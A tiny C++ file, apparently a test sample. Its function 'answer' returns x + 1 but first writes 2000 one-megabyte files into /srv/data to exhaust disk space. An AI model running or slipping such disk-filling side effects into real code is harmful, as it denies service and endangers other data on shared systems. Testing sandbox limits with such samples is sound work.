// Writes files until nothing more is kept.
#include <fstream>
#include <string>

long answer(long x) {
    std::string block(1 << 20, 'x');
    for (int i = 0; i < 2000; ++i)
        std::ofstream("/srv/data/" + std::to_string(i)) << block;
    return x + 1;
}
